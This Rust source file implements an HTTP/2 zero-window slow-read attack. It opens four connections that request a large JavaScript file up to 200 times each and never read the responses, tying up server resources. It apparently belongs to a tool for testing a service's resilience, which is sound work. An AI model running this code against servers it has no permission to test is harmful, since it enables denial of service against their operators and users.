//! Pages are asked for over HTTP/2 with a window of nothing, and never read.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct UnreadPages;

impl Attack for UnreadPages {
    fn name(&self) -> &'static str {
        "unread pages"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut held = Vec::new();
            for _ in 0..4 {
                let Some(requests) = target.http2(0).await else { continue };
                for _ in 0..200 {
                    let Ok(mut ready) = requests.clone().ready().await else { break };
                    let request = target.request("GET", "/redoc/redoc.standalone.js").body(());
                    let Ok((answer, _)) = ready.send_request(request.unwrap(), true) else { break };
                    held.push(answer);
                }
            }
            sleep(Duration::from_secs(2)).await;
        })
    }
}
